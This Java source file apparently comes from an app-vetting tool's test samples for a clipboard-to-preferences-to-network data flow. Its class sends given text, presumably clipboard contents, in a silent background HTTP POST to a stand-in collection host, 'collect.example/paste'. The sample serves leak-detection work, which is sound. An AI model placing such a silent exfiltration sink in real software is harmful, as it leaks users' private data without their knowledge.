package org.apkvet.clip.to_preferences_then_network;

import java.io.*;
import java.net.*;

final class Net implements Runnable {
    private final String text;

    private Net(String text) {
        this.text = text;
    }

    static void send(String text) {
        new Thread(new Net(text)).start();
    }

    @Override
    public void run() {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("https://collect.example/paste").openConnection();
            connection.setDoOutput(true);
            OutputStream out = connection.getOutputStream();
            out.write(text.getBytes("UTF-8"));
            out.close();
            connection.getResponseCode();
        } catch (IOException offline) {
            return;
        }
    }
}
